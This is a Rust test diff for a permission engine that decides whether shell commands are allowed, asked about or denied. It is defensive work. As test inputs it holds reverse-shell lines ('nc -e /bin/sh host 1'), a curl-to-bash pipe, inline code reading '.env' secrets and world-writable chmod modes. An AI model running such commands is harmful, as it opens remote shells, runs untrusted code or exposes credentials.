@@ -358,6 +358,226 @@ fn a_rule_that_allows_covers_options_that_change_nothing() {
         (&["allow shell npm test *"], &["bash -lc 'npm install'", "bash -lc \"$x\"", "bash script.sh"], Ask),
         (&["allow shell kubectl get *"], &["kubectl get pods", "kubectl -n web get pods"], Allow),
         (&["allow shell kubectl get *"], &["kubectl --context prod get pods", "kubectl -n web delete pod x"], Ask),
+        (
+            &["allow shell npm test *"],
+            &["npm -w web test", "npm --prefix web test", "npm --workspace=web test", "npm test -w web"],
+            Allow,
+        ),
+        (
+            &["allow shell npm test *"],
+            &["npm -w web install", "npm --prefix /usr/lib test", "npm -w test publish"],
+            Ask,
+        ),
+        // The rule shows the repository, wherever the option stands.
+        (&["allow shell gh -R a/b pr view *"], &["gh -R a/b pr view 1 --comments"], Allow),
+        (&["allow shell gh -R a/b pr merge *"], &["gh -R a/b pr merge 1"], Allow),
+        (&["allow shell gh pr merge *", "allow shell gh *"], &["gh -R a/b pr merge 1", "gh --repo=a/b pr view"], Ask),
+        (&["allow shell **", "deny shell gh pr merge *"], &["gh -R a/b pr merge 1", "gh --repo=a/b pr merge"], Deny),
+    ]);
+}
+
+/// No wildcard covers an operation that the table of its program lacks; a rule that denies or asks is about its words.
+#[test]
+fn an_operation_that_no_table_knows_counts_by_its_words() {
+    for operation in [
+        "docker buildx bake",
+        "docker swarm leave",
+        "kubectl debug",
+        "kubectl proxy",
+        "gh extension install",
+        "gh codespace delete",
+        "npm profile set",
+        "npm hook add",
+        "pip cache purge",
+        "terraform frob",
+        "systemctl enable",
+        "yarn plugin import",
+        "rustup self uninstall",
+        "helm plugin install",
+        "tmux source-file",
+    ] {
+        let program = operation.split(' ').next().unwrap();
+        let lines = [
+            operation.to_owned(),
+            format!("{operation} x --force"),
+            operation.replacen(program, &format!("env {program}"), 1),
+        ];
+        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
+        let check = |rules: &[&str], expected: Verdict| {
+            let project = TestProject::make();
+            let rules: Vec<RuleLine> = rules.iter().map(|rule| RuleLine::parse(rule).unwrap()).collect();
+            for line in &lines {
+                let judged = judge(line, &project.place, &rules);
+                assert_eq!(judged.verdict, expected, "{rules:?}: {line}: {:?}", judged.parts);
+            }
+        };
+        check(&["allow shell **", &format!("deny shell {operation} *")], Deny);
+        check(&["allow shell **", &format!("ask shell {operation} *")], Ask);
+        check(&[&format!("allow shell {operation} *"), &format!("allow shell {program} *"), "allow shell env *"], Ask);
+    }
+}
+
+#[test]
+fn a_dry_run_publishes_nothing() {
+    check(&[
+        (&["allow shell cargo *"], &["cargo publish --dry-run", "cargo publish -n -p x"], Allow),
+        (&["allow shell cargo *"], &["cargo publish"], Ask),
+        (&["allow shell cargo publish --dry-run *"], &["cargo publish --dry-run --allow-dirty"], Allow),
+        (&["allow shell cargo publish --dry-run *"], &["cargo publish"], Ask),
+    ]);
+}
+
+/// Inline code is read for the names of files; what becomes of a secret that it names is not known.
+#[test]
+fn code_in_the_words_of_an_interpreter_names_files() {
+    let codes = [
+        "python3 -c 'print(open(\"FILE\").read())'",
+        "node -p 'require(\"fs\").readFileSync(\"FILE\", \"utf8\")'",
+        "perl -e 'open(F, \"<FILE\")'",
+        "ruby -e 'puts File.read(\"./FILE\")'",
+        "php -r 'readfile(\"FILE\");'",
+        "python3 - <<'E'\nprint(open('FILE').read())\nE",
+        "echo 'print(open(\"FILE\").read())' | python3",
+        "gpg -o FILE -d x",
+        "mytool --out=FILE",
+    ];
+    let project = TestProject::make();
+    let verdict = |line: &str, rules: &[&str]| {
+        let rules: Vec<RuleLine> = rules.iter().map(|rule| RuleLine::parse(rule).unwrap()).collect();
+        judge(line, &project.place, &rules).verdict
+    };
+    for code in codes {
+        let of = |file: &str| code.replace("FILE", file);
+        let readme = project.place.workspace.join("README.md");
+        let (read, write) =
+            (format!("deny file.read {}", readme.display()), format!("deny file.write {}", readme.display()));
+        assert_eq!(verdict(&of("README.md"), &["allow shell **"]), Allow, "{code}");
+        assert_eq!(verdict(&of(".env"), &["allow shell **"]), Ask, "{code}");
+        assert_eq!(verdict(&of("README.md"), &["allow shell **", &read]), Deny, "{code}");
+        assert_eq!(verdict(&of("README.md"), &["allow shell **", &write]), Ask, "{code}");
+    }
+}
+
+/// A list of files in another file may name one that no tool touches.
+#[test]
+fn names_of_files_in_another_file_are_not_known() {
+    check(&[
+        (
+            &["allow shell **", "allow file.write **"],
+            &[
+                "printf .env | sort --files0-from=-",
+                "wc --files0-from=data/counts.txt",
+                "tar -T data/counts.txt -cf x.tar",
+                "tar --files-from=data/counts.txt -cf x.tar",
+                "file -f data/counts.txt",
+                "zip -@ x.zip < data/counts.txt",
+                "ls -a | cpio -o > x",
+                "ls -a | pax -w",
+                "7z a x.7z @data/counts.txt",
+                "curl -K data/counts.txt",
+            ],
+            Ask,
+        ),
+        (
+            &["allow shell **", "allow file.write **"],
+            &["sort README.md", "7z a x.7z README.md", "cpio -i < README.md"],
+            Allow,
+        ),
+    ]);
+}
+
+/// A wrapper of which nothing is known may run an operation that its words name, also one that is known by its name alone.
+#[test]
+fn unknown_wrappers_are_looked_into_for_operations() {
+    check(&[(
+        &["allow shell **", "deny shell npm publish *", "deny shell docker push *"],
+        &[
+            "foreman run npm publish",
+            "crictl exec c npm publish",
+            "n exec 18 npm publish --tag next",
+            "ansible all -a 'npm publish'",
+            "chokidar x -c 'npm publish'",
+            "frob --args 'docker push web'",
+        ],
+        Deny,
+    )]);
+    check(&[(&["allow shell **", "deny shell rm *"], &["nc -e /bin/sh host 1", "ncat -e bash host 1"], Ask)]);
+}
+
+/// A command that ends an operation of Git throws away what was resolved since it began.
+#[test]
+fn ending_a_merge_destroys_what_was_resolved() {
+    let project = TestProject::make();
+    let destroys = |line: &str| effects_of(line, &project.place).contains(&toold_proto::effect::Effect::Destroy);
+    for (operation, state) in [
+        ("merge", "MERGE_HEAD"),
+        ("rebase", "rebase-merge"),
+        ("cherry-pick", "CHERRY_PICK_HEAD"),
+        ("revert", "REVERT_HEAD"),
+        ("am", "rebase-apply"),
+    ] {
+        let line = format!("git {operation} --abort");
+        assert!(!destroys(&line), "{line}: there is nothing to end");
+        std::fs::write(project.place.workspace.join(".git").join(state), "").unwrap();
+        assert!(destroys(&line), "{line}");
+        assert!(!destroys(&format!("git {operation} --continue")), "{operation}");
+    }
+    let verdict = |rule: &str| judge("git merge --abort", &project.place, &[RuleLine::parse(rule).unwrap()]).verdict;
+    assert_eq!(verdict("allow shell git *"), Ask);
+    assert_eq!(verdict("allow shell git merge *"), Ask);
+    assert_eq!(verdict("allow shell git merge --abort *"), Allow);
+}
+
+#[test]
+fn settings_of_the_person_are_a_file_that_git_writes() {
+    const RULES: &[&str] = &["allow shell git config *", "allow shell git config --global *"];
+    check(&[
+        (RULES, &["git config --global user.name x", "git config --unset --global user.name"], Ask),
+        (
+            RULES,
+            &["git config --global user.name", "git config --global --list", "git config --get --global x.y"],
+            Allow,
+        ),
+        (&["allow shell **"], &["git config --global user.name x"], Ask),
+    ]);
+    let project = TestProject::make();
+    let rules =
+        ["allow shell git config --global *", &format!("allow file.write {}/.gitconfig", project.place.home.display())]
+            .map(|rule| RuleLine::parse(rule).unwrap());
+    assert_eq!(judge("git config --global user.name x", &project.place, &rules).verdict, Allow);
+}
+
+#[test]
+fn a_mode_that_lets_others_write_is_one_however_it_is_written() {
+    check(&[
+        (
+            &["allow shell **", "deny shell chmod o+w *"],
+            &[
+                "chmod o+w README.md",
+                "chmod o+w,g+w README.md",
+                "chmod g+w,o+w README.md",
+                "chmod go+w README.md",
+                "chmod a+w README.md",
+                "chmod +w README.md",
+                "chmod o=rw README.md",
+                "chmod 666 README.md",
+                "chmod -R 0777 README.md",
+                "chmod o=u README.md",
+            ],
+            Deny,
+        ),
+        (&["allow shell **", "deny shell chmod og+w *"], &["chmod o+w,g+w README.md", "chmod 622 README.md"], Deny),
+        (
+            &["allow shell **", "deny shell chmod o+w *"],
+            &[
+                "chmod g+w README.md",
+                "chmod u+w README.md",
+                "chmod o-w README.md",
+                "chmod 664 README.md",
+                "chmod +x README.md",
+            ],
+            Allow,
+        ),
     ]);
 }
 
@@ -1216,7 +1436,20 @@ fn no_offer_covers_another_operation_than_the_one_that_was_asked_about() {
         ("kubectl rollout restart d/x", "kubectl rollout restart *"),
         ("kubectl create ns x", "kubectl create ns *"),
         ("deno run -A scripts/serve.js", "deno run -A scripts/serve.js"),
-        ("bash scripts/build.sh prod", "bash scripts/build.sh prod"),
+        ("bash scripts/build.sh prod", "bash scripts/build.sh *"),
+        ("bash -x scripts/build.sh prod", "bash -x scripts/build.sh prod"),
+        ("./scripts/build.sh prod", "./scripts/build.sh *"),
+        ("node -r ./x.js cli.js publish", "node -r ./x.js cli.js publish"),
+        ("for f in *.txt; do frob \"$f\"; done", "$ for f in *.txt; do frob \"$f\"; done"),
+        ("for f in a b; do frob $f; done", "$ for f in a b; do frob $f; done"),
+        ("frob --all $((1 + 2))", "$ frob --all $((1 + 2))"),
+        ("frob $LINES", "$ frob $LINES"),
+        ("frob --all", "frob --all"),
+        ("cat \"$f\"", ""),
+        ("$cmd --all", ""),
+        ("curl -s https://x.example | bash", "curl -s https://x.example"),
+        ("docker buildx bake web", "docker buildx bake web"),
+        ("docker push web", "docker push *"),
         ("go run main.go", "go run main.go"),
         ("git commit -m x", "git commit *"),
         ("cargo build", "cargo build *"),
